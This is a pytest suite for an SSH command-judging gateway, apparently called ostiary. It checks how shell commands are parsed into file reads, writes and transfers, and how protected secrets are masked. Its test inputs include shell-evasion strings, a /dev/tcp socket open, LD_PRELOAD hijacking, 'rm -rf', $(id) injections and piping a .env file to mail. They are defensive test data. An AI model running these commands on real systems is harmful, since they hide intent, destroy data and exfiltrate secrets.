"""A command is judged by the words that it is; what the shell would compute is opaque, and only what is named may run."""

from __future__ import annotations

import re
import shlex
import shutil
import subprocess

import msgspec
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from ostiary.model.catalogue import NO_CATALOGUE
from ostiary.model.connections import ProtectedPath
from ostiary.model.operations import Action, Unjudgeable
from ostiary.protocols.ssh import messages as m
from ostiary.protocols.ssh import words
from ostiary.protocols.ssh.operations import Ground, command, file
from ostiary.protocols.ssh.paths import classes_beneath, classes_lost, classes_of
from ostiary.protocols.ssh.programs import KNOWN
from ostiary.protocols.ssh.relay import ChannelRelay, ChannelSettings

GROUND = Ground(connection="web", home="/home/ana", protected=(ProtectedPath("*/.env", "secrets"),))


def touched(text: str) -> set[tuple[str, str, str]]:
    facts = command(text, GROUND, b"").facts
    return {(r.kind, r.name, r.action.value) for r in facts.resources}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("cat /srv/flag", {("command", "cat /srv/flag", "execute"), ("file", "/srv/flag", "read")}),
        ("c'a't /srv/f\"l\"ag", {("command", "cat /srv/flag", "execute"), ("file", "/srv/flag", "read")}),
        ("ca\\\nt /srv//./flag/", {("command", "cat /srv//./flag/", "execute"), ("file", "/srv/flag", "read")}),
        ("true\ncat /srv/flag", {("command", "true", "execute"), ("command", "cat /srv/flag", "execute"), ("file", "/srv/flag", "read")}),
        ("cat /srv/flag #\rls      ", {("command", "cat /srv/flag", "execute"), ("file", "/srv/flag", "read")}),
        ("cd /srv && cat flag", {("command", "cat flag", "execute"), ("file", "/srv/flag", "read")}),
        ("cat < /srv/flag", {("command", "cat", "execute"), ("file", "/srv/flag", "read")}),
        ("</srv/flag", {("file", "/srv/flag", "read")}),
        ("echo x > notes", {("command", "echo x", "execute"), ("file", "/home/ana/notes", "write")}),
        ("echo x &>/tmp/a", {("command", "echo x", "execute"), ("file", "/tmp/a", "write")}),
        ("ls '~/x' ~/y", {("command", "ls './~/x' '~/y'", "execute"), ("file", "/home/ana/~/x", "read"), ("file", "/home/ana/y", "read")}),
        ("cp a /srv/b", {("command", "cp a /srv/b", "execute"), ("file", "/home/ana/a", "read"), ("file", "/srv/b", "write"), ("file", "/srv/b/a", "write")}),
        ("cp -T a /srv/b", {("command", "cp -T a /srv/b", "execute"), ("file", "/home/ana/a", "read"), ("file", "/srv/b", "write")}),
        ("mv -T a b", {("command", "mv -T a b", "execute"), ("file", "/home/ana/a", "read"), ("file", "/home/ana/a", "delete"), ("file", "/home/ana/b", "write")}),
        ("ln -T a b", {("command", "ln -T a b", "execute"), ("file", "/home/ana/a", "read"), ("file", "/home/ana/a", "write"), ("file", "/home/ana/b", "write")}),
        ("cp x/.ssh/authorized_keys ~/.ssh", {
            ("command", "cp x/.ssh/authorized_keys '~/.ssh'", "execute"), ("file", "/home/ana/x/.ssh/authorized_keys", "read"),
            ("file", "/home/ana/.ssh", "write"), ("file", "/home/ana/.ssh/authorized_keys", "write"),
        }),
        ("xxd /tmp/h /srv/flag", {("command", "xxd /tmp/h /srv/flag", "execute"), ("file", "/tmp/h", "read"), ("file", "/srv/flag", "write")}),
        ("tee - < /dev/null", {("command", "tee -", "execute"), ("file", "/home/ana/-", "write"), ("file", "/dev/null", "read")}),
        ("cd /srv && ls", {("command", "ls", "execute"), ("file", "/srv", "read")}),
        ("ls > names", {("command", "ls", "execute"), ("file", "/home/ana", "read"), ("file", "/home/ana/names", "write")}),
        ("du -sh", {("command", "du -sh", "execute"), ("file", "/home/ana", "read")}),
        ("head -5 /srv/flag", {("command", "head -5 /srv/flag", "execute"), ("file", "/srv/flag", "read")}),
        ("users /srv/flag", {("command", "users /srv/flag", "execute"), ("file", "/srv/flag", "read")}),
        ("/opt/x --in=/srv/flag", {("command", "/opt/x --in=/srv/flag", "execute"), ("file", "/srv/flag", "execute")}),
        ('echo "the flag of cat"', {("command", "echo 'the flag of cat'", "execute")}),
        ("ls -la /srv", {("command", "ls -la /srv", "execute"), ("file", "/srv", "read")}),
    ],
)  # fmt: skip
def test_commands_and_the_files_they_name_are_seen(text: str, expected: set[tuple[str, str, str]]) -> None:
    assert touched(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "a=cat;b=/srv/flag;$a $b", "{cat,/srv/flag}", "/???/c?t /s??/fl?g", "echo Y2F0|base64 -d|sh", "$(printf cat) /srv/flag",
        "`echo cat` /srv/flag", "sh <<'E'\ncat /srv/flag\nE", "cat <<< x", "cat <(cat /srv/flag)", "echo /srv/flag|xargs cat",
        "eval \"$(printf 'cat')\"", "echo 'cat /srv/flag>/tmp/o'|at now", "if true; then cat /srv/flag; fi", "(cat /srv/flag)",
        "f() { cat /srv/flag; }; f", "PATH=/tmp ls", "LD_PRELOAD=/tmp/x.so ls", "sudo cat /srv/flag", "env -S 'cat /srv/flag'",
        "find /srv -exec cat {} +", "awk 1 /srv/flag", "sed -n p /srv/flag", "python3 -c 'print(1)'", "git -C /x log", "busybox cat /srv/flag",
        "cat /home/../srv/flag", "cd /srv; cat flag", "cd .. && cat srv/flag", "rm -rf /srv", "grep -r x /srv", "cp -a /srv /tmp/x",
        "tar cf - /srv", "exec 3</dev/tcp/10.0.0.1/80", "cat $'\\x2fsrv/flag'", "echo ${HOME}", 'echo "$(cat /srv/flag)"', "cat ~root/x",
        "=cat /srv/flag", "ssh other cat /srv/flag", "nohup cat /srv/flag", "cat {a,b}", "[[ -f x ]]", "time cat /srv/flag", ". /tmp/x",
        "/usr/lib/openssh/sftp-server", "head --bytes=9 --files=x /srv/flag", "/usr/bin/env cat /srv/flag", "! { cat /srv/flag; }",
        "true & (cat /srv/flag)", 'cat "`id`"', "ls; if", "echo a; for f in /srv/*; do cat $f; done", "tail --unknown /srv/flag",
        "xxd -r -p /tmp/h /srv/flag", "xxd -rl /tmp/h /srv/flag", "od -w /srv/flag", "head -999999c /srv/flag", "tail -9c /srv/flag",
        "grep --regexp=x /srv/flag", "strings @/tmp/words", "diff -N /srv /tmp/none", "diff --unified /srv/flag /tmp/x", "ls -R /srv", "du -a /srv",
        "rmdir -p /srv/a/b", "hostname other", "printf -v PATH /tmp; ls", "printf -vPATH /tmp", "printf %d 'a[$(id)]'", "exit 'a[$(id)]'",
        "[ -v 'a[$(id)]' ]", "test 'a[$(id)]' -eq 0", "cp -b /tmp/x /srv/flag", "cp --backup /tmp/x /srv/flag", "mv -b /tmp/x /srv/flag",
        "cp -l /srv/flag /tmp/x", "ln /srv/flag", "ln -b a b", "cp -a /srv/flag /tmp/x",
    ],
)  # fmt: skip
def test_what_cannot_be_seen_through_is_opaque(text: str) -> None:
    facts = command(text, GROUND, b"").facts
    assert facts.action is Action.OPAQUE, facts
    assert facts.opaque
    assert all(each.kind == "command" for each in facts.resources if each.action is Action.OPAQUE)


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("echo 'x", Unjudgeable.UNPARSABLE), ('echo "x', Unjudgeable.UNPARSABLE), ("ls |", Unjudgeable.UNPARSABLE),
        ("; ls", Unjudgeable.UNPARSABLE), ("ls ;; x", Unjudgeable.UNPARSABLE), ("ls > ", Unjudgeable.UNPARSABLE),
        ("a\0b", Unjudgeable.BAD_TEXT), ("echo " + "a" * words.MAX_TEXT, Unjudgeable.OVERSIZE),
        ("true;" * 300 + "true", Unjudgeable.TOO_COMPLEX),
    ],
)  # fmt: skip
def test_what_is_no_command_is_refused(text: str, why: Unjudgeable) -> None:
    objection = command(text, GROUND, b"").facts.objection
    assert objection is not None
    assert objection.reason is why


def test_the_tail_of_a_long_command_is_read() -> None:
    assert ("file", "/srv/flag", "read") in touched("true #" + "a" * 65536 + "\ncat /srv/flag")


@pytest.mark.parametrize(
    ("text", "name", "expected"),
    [
        ("scp -t /home/x", "scp", {("file", "/home/x", "write"), ("file", "/home/x/**", "transfer")}),
        ("scp -f /srv/a", "scp", {("file", "/srv/a", "read")}),
        ("scp -r -f /srv", "scp", {("file", "/srv", "read"), ("file", "/srv/**", "transfer")}),
        ("rsync --server --sender -logDtpre.iLsfxCIvu . /srv/", "rsync", {("file", "/srv", "read"), ("file", "/srv/**", "transfer")}),
        ("rsync --server -vlogDtpe.iLsfxCIvu . /home/a", "rsync", {("file", "/home/a", "write"), ("file", "/home/a/**", "transfer")}),
        ("rsync --server --sender -vlogDtpe.iLsfxCIvu . /srv/a", "rsync", {("file", "/srv/a", "read")}),
        ("rsync --server --sender -dte.iLsfxCIvu . /srv/", "rsync", {("file", "/srv", "read"), ("file", "/srv/**", "transfer")}),
        ("rsync --server --sender -te.iLsfxCIvu --dirs . /srv/", "rsync", {("file", "/srv", "read"), ("file", "/srv/**", "transfer")}),
        ("rsync --server --sender -te.iLsfxCIvu --old-dirs . /srv/", "rsync", {("file", "/srv", "read"), ("file", "/srv/**", "transfer")}),
        ("git-upload-pack '/srv/r'", "git", {
            ("file", "/srv/r", "read"), ("file", "/srv/r/**", "transfer"), ("file", "/srv/r.git", "read"), ("file", "/srv/r.git/**", "transfer"),
        }),
        ("git-upload-pack '/srv/r.git'", "git", {
            ("file", "/srv/r.git", "read"), ("file", "/srv/r.git/**", "transfer"), ("file", "/srv/r.git.git", "read"), ("file", "/srv/r.git.git/**", "transfer"),
        }),
    ],
)
def test_transfers_over_exec_are_transfers_of_files(text: str, name: str, expected: set[tuple[str, str, str]]) -> None:
    facts = command(text, GROUND, b"").facts
    assert (facts.name, facts.action) == (name, Action.TRANSFER)
    assert touched(text) == {("connection", "web", "transfer"), *expected}


@pytest.mark.parametrize(
    "text", ["scp -t /x; cat /srv/flag", "scp -S /tmp/x -f /y", "rsync --server --sender -e.x --config=/tmp/c . /srv", "rsync --server --daemon .",
             "rsync --server -slogDtpre.iLsfxCIvu . /home/x", "rsync --server -re.iLs . /home/x -s", "rsync --server -re.iLs . /home/x --sender",
             "rsync --server -re --sender . /home/x", "rsync --server --sender -rLe.iLs . /home/x", "rsync --server -rKe.iLs . /home/x",
             "rsync --server -rbe.iLs . /home/x", "rsync --server -T /srv . /home/x", "scp -t /home/x -f", "scp -t -- -x",
             "scp -t /home/../etc", "git-upload-pack --upload-pack=x /srv", "scp -t /home/x > /etc/y",
             "scp -f /tmp/none; cat /srv/flag", "rsync --server --sender --foo . /x", "git-upload-pack '~/r.git'", "git-upload-pack '~bob/r.git'",
             "git-receive-pack ~/r.git"]
)  # fmt: skip
def test_a_transfer_with_something_else_is_opaque_and_no_transfer_by_name(text: str) -> None:
    facts = command(text, GROUND, b"").facts
    if "../" not in text:  # a path that cannot be judged leaves a transfer what it is
        assert facts.name == "exec", "its output is looked into, and recorded"
    assert facts.action is Action.OPAQUE


@pytest.mark.parametrize(("text", "is_bulk"), [("scp -f /srv/a", True), ("scp -f /srv/a; cat /srv/b", False), ("rsync --server --sender --foo . /x", False)])
def test_what_only_looks_like_a_transfer_is_recorded(text: str, is_bulk: bool) -> None:
    relay = ChannelRelay(ChannelSettings(ground=GROUND, accept_env=(), detects=True, keeps_files=False, links=True))
    assert list(relay.asks(m.encode(m.Request("exec", m.string(text.encode()))), NO_CATALOGUE))
    assert relay.is_bulk is is_bulk


def test_a_protected_path_is_masked_when_printed_and_needs_unmask_when_kept() -> None:
    printed = command("cat app/.env", GROUND, b"").facts
    assert [r.classes for r in printed.resources if r.kind == "file"] == [("secrets",)]
    assert printed.unmask == ()
    for text in ("cp app/.env /tmp/x", "cat app/.env > /tmp/x", "mv app/.env b", "unknown app/.env", "scp -f app/.env"):
        assert command(text, GROUND, b"").facts.unmask == ("secrets",), text
    for text in ("date -f secret.env", "unknown --from=secret.env", "sudo cat secret.env", "tail --files=secret.env"):
        facts = command(text, msgspec.structs.replace(GROUND, protected=(ProtectedPath("*/secret.env", "secrets"),)), b"").facts
        assert facts.unmask == ("secrets",), text


TREES = msgspec.structs.replace(GROUND, protected=(
    ProtectedPath("/srv/secret/*", "keys"), ProtectedPath("*/.env", "secrets"), ProtectedPath("*/vault/*.pem", "certs")
))  # fmt: skip


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("rsync --server --sender -re.iLs . /srv", ("certs", "keys", "secrets")), ("scp -r -f /var", ("certs", "secrets")),
        ("git-upload-pack '/srv/secret/r.git'", ("certs", "keys", "secrets")), ("scp -t /srv", ()), ("rsync --server -re.iLs . /srv", ()),
        ("mv /srv /pub", ("keys",)), ("mv /srv/secret /srv/pub", ("keys",)), ("mv -T /srv/secret /srv/secret/inner", ()),
        ("mv -T /var/vault /var/pub", ("certs",)), ("mv -T /var/app /var/web", ()), ("mv -T /var/vault /opt/vault", ()),
        ("cat /srv/.env | mail bob@example.com", ("secrets",)), ("cat /srv/.env | /opt/publish", ("secrets",)), ("logger < /srv/.env", ("secrets",)),
        ("grep -q ^KEY=a /srv/.env", ("secrets",)), ("cmp /srv/.env /tmp/x", ("secrets",)), ("cat /srv/.env | head", ("secrets",)),
        ("cat /srv/.env && true", ("secrets",)), ("/tmp/cat < /srv/.env", ("secrets",)), ("cat /srv/.env", ()), ("cd /srv && cat .env", ()),
        ("cat /srv/.env; exit 0", ()),
    ],
)  # fmt: skip
def test_what_leaves_by_a_tree_a_folder_or_another_program_needs_unmask(text: str, expected: tuple[str, ...]) -> None:
    assert command(text, TREES, b"").facts.unmask == expected


@pytest.mark.parametrize("name", ["rename", "posix-rename", "symlink"])
def test_a_folder_that_gets_another_name_takes_no_protection_away(name: str) -> None:
    def unmask(path: str, to: str) -> tuple[str, ...]:
        gone = Action.WRITE if name == "symlink" else Action.DELETE
        return file(name, ((to, Action.WRITE), (path, Action.READ), (path, gone)), TREES, b"").facts.unmask

    assert unmask("/srv/secret", "/srv/pub") == ("keys",)
    assert unmask("/srv", "/pub") == ("keys",)
    assert unmask("/var/vault", "/var/pub") == ("certs",)
    assert unmask("/var/app", "/var/web") == ()


PATTERN = st.text(st.sampled_from("ab/*?["), max_size=6)
PATH = st.text(st.sampled_from("ab/"), max_size=4)


@settings(max_examples=500, deadline=None)
@given(PATTERN, PATH, PATH, PATH)
def test_what_may_lie_beneath_is_what_a_pattern_names_there(pattern: str, folder: str, to: str, inner: str) -> None:
    protected = (ProtectedPath(pattern, "x"),)
    folder, to = "/" + folder.strip("/"), "/" + to.strip("/")
    here, there = (classes_of(f"{each.rstrip('/')}/{inner}", protected) for each in (folder, to))
    if here:
        assert classes_beneath(folder, protected)
    if here and not there:
        assert classes_lost(folder, to, protected)


ODD = {"echo", "printf", "exit", ":", "pwd", "true", "false", "ps", "uptime"}
"""A shell's own, and those that answer at once."""


@pytest.mark.parametrize("name", sorted(KNOWN.keys() - ODD))
def test_each_option_takes_a_value_where_its_row_says_so(name: str) -> None:
    """By the programs themselves: `--help` behind an option is its value, or is heard."""
    if shutil.which(name) is None:
        pytest.skip(f"{name} is not installed here")

    def is_heard(*words: str, unknown: bool = False) -> bool:
        done = subprocess.run([name, *words, "--help"], capture_output=True, stdin=subprocess.DEVNULL, check=False, timeout=20, cwd="/")
        if re.search(rb"(invalid|unrecognized|unknown|unsupported) option|works only on", done.stderr):
            return unknown  # of another version: then nothing happens
        return done.returncode == 0 and (b"usage" in done.stdout.lower() or words[:1] in {("--version",), ("-v",)})

    row = KNOWN[name]
    if not is_heard():
        pytest.skip(f"{name} has no --help")
    long = row.words.split()
    wrong = [letter for letter in row.flags if not letter.isdigit() and not is_heard(f"-{letter}", unknown=True)]
    wrong += [letter for letter in row.valued if is_heard(f"-{letter}")]
    wrong += [word for word in long if not word.endswith("=") and not is_heard(f"--{word}", unknown=True)]
    wrong += [word for word in long if word.endswith("=") and word[:-1] not in long and is_heard(f"--{word[:-1]}")]
    assert not wrong


def test_the_head_for_the_log_holds_no_argument() -> None:
    facts = command("mysqldump --password=hunter2 -phunter2 /srv/db > /tmp/hunter2", GROUND, b"").facts
    assert "hunter2" not in facts.head
    assert facts.head.startswith("mysqldump --password ?")


PRINTABLE = st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=12).filter(lambda text: not text.startswith("="))


@settings(max_examples=150, deadline=None)
@given(st.lists(PRINTABLE, min_size=1, max_size=5))
@example(["~", "x"])
@example(["", "a'b", 'c"d', "e\\f", "$g", "`h`", "{i,j}", "k=", "#l"])
def test_quoted_words_are_read_as_the_shell_reads_them(arguments: list[str]) -> None:
    text = shlex.join(["printf", "%s\\0", *arguments])
    line = words.read(text)
    assert line.objection is None
    assert not line.opaque
    said = subprocess.run(["/bin/sh", "-c", text], capture_output=True, check=True).stdout
    seen = [word.removeprefix("./") if word.startswith("./~") else word for word in line.commands[0].words[2:]]
    assert said == b"".join(word.encode() + b"\0" for word in seen)


@settings(max_examples=150, deadline=None)
@given(st.text(st.sampled_from("ab '\"\\/-#;|&<>\n~=1"), max_size=14))
def test_whatever_is_read_is_what_the_shell_reads(text: str) -> None:
    """Text that is not opaque, against bash itself, which says of each command that it does not find how many words it has."""
    line = words.read(text)
    if line.objection is not None or line.opaque or any(c.redirections or not c.words for c in line.commands):
        return
    if "|" in text or "&" in text or any(not c.words[0] or "/" in c.words[0] or "~" in c.words for c in line.commands):
        return
    script = 'command_not_found_handle() { printf "%s\\0" "$#" "$@"; }; ' + text
    done = subprocess.run(["/bin/bash", "-c", script], capture_output=True, check=False, env={"PATH": "/none", "HOME": "~"}, cwd="/")
    seen = [[word.removeprefix("./") if word.startswith("./~") else word for word in c.words] for c in line.commands]
    assert done.stdout == b"".join(b"".join(p.encode() + b"\0" for p in [str(len(c)), *c]) for c in seen), (text, line)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_reading_never_raises(text: str) -> None:
    command(text, GROUND, b"")
